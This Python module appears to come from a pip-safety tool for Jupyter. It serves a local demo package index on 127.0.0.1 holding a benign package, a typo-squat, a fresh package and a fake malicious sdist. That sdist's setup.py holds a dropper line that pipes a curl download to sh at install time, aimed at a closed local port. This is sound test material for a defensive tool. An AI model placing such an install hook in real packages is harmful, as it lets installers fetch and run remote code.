"""A safe demo index on 127.0.0.1: a benign package, a typo-squat, a brand-new package, and a package whose
install hook looks malicious but is harmless (it is blocked before it could run, and it only targets 127.0.0.1).

    python -m jupyter_safepip.testing.demo [--port 8765] [--dir DIR] [--url-file FILE]
    python -m jupyter_safepip.testing.demo --make-env .demo-venv    # the demo kernel's own environment
"""

from __future__ import annotations

import argparse
import json
import sysconfig
import tempfile
import time
import venv
from pathlib import Path

from .builders import build_sdist, build_wheel
from .index import PackageIndex

WELL_KEPT = {
    "summary": "Tidy data frames (demo package)",
    "description": "A harmless demo package with a long history.",
    "project_urls": {"Source": "https://github.com/example/tidyframe"},
    "maintainers": ("Demo Maintainer",),
}
# Looks like a dropper (download and run at install time), but points at a closed local port and never runs.
SKETCHY_SETUP = """\
import os
from setuptools import setup
os.system("curl -s http://127.0.0.1:9/payload.sh | sh")
setup(name="sketchy-setup", version="0.1.0", py_modules=["sketchy_setup"])
"""


def build_demo_index(directory: Path, port: int = 0) -> PackageIndex:
    """The demo projects, served on 127.0.0.1 (port 0: any free port)."""
    index = PackageIndex(port=port)
    index.add(build_wheel(directory, "tidyutils", "1.1.0"), age_days=900, **WELL_KEPT)
    index.add(build_wheel(directory, "tidycore", "2.1.0", requires=["tidyutils>=1"]), age_days=800, **WELL_KEPT)
    index.add(build_wheel(directory, "tidyframe", "1.0.0", requires=["tidycore>=2"]), age_days=700, **WELL_KEPT)
    index.add(build_wheel(directory, "tidyframe", "1.2.0", requires=["tidycore>=2"]), age_days=200)
    index.add(build_wheel(directory, "pandsa", "2.2.3", summary="pandas"), age_days=2)
    index.add(build_wheel(directory, "freshpkg", "0.1.0", summary="Just published"), age_days=1)
    index.add(build_sdist(directory, "sketchy-setup", "0.1.0", setup_py=SKETCHY_SETUP), age_days=3)
    return index.start()


KERNEL_NAME = "safepip-demo"


def make_environment(path: Path) -> Path:
    """A venv for the demo kernel that sees this environment's packages (ipykernel, jupyter_safepip, pip)
    after its own, so that what the demo installs lands in it only; with its kernelspec. Returns the kernelspec's
    directory (put `path`/share/jupyter on JUPYTER_PATH)."""
    python = path / "bin" / "python"
    if not python.exists():
        venv.create(path, with_pip=False)  # pip comes from this environment, and installs into the demo's
    site = Path(sysconfig.get_paths(vars={"base": str(path), "platbase": str(path)})["purelib"])
    # addsitedir, not a bare path: this environment's own .pth files (the editable install) count too.
    (site / "safepip_demo_base.pth").write_text(f"import site; site.addsitedir({sysconfig.get_paths()['purelib']!r})\n")
    spec = path / "share" / "jupyter" / "kernels" / KERNEL_NAME
    spec.mkdir(parents=True, exist_ok=True)
    (spec / "kernel.json").write_text(json.dumps({
        "argv": [str(python), "-m", "ipykernel_launcher", "-f", "{connection_file}"],
        "display_name": "Python (safepip demo)", "language": "python"}, indent=1))
    return spec


def main() -> None:
    parser = argparse.ArgumentParser(description="Serve the jupyter_safepip demo index on 127.0.0.1.")
    parser.add_argument("--port", type=int, default=8765, help="0: any free port")
    parser.add_argument("--dir", type=Path, default=None, help="where to write the demo packages")
    parser.add_argument("--url-file", type=Path, default=None, help="write the index URL here once it serves")
    parser.add_argument("--make-env", type=Path, default=None, metavar="DIR",
                        help="make the demo kernel's environment and kernelspec in DIR, and exit")
    args = parser.parse_args()
    if args.make_env:
        print(make_environment(args.make_env.absolute()))
        return
    directory = args.dir or Path(tempfile.mkdtemp(prefix="safepip-demo-"))
    index = build_demo_index(directory, args.port)
    print(f"demo index: {index.url}", flush=True)
    if args.url_file:
        args.url_file.write_text(index.url)
    try:
        while True:
            time.sleep(3600)
    except KeyboardInterrupt:
        index.stop()


if __name__ == "__main__":
    main()
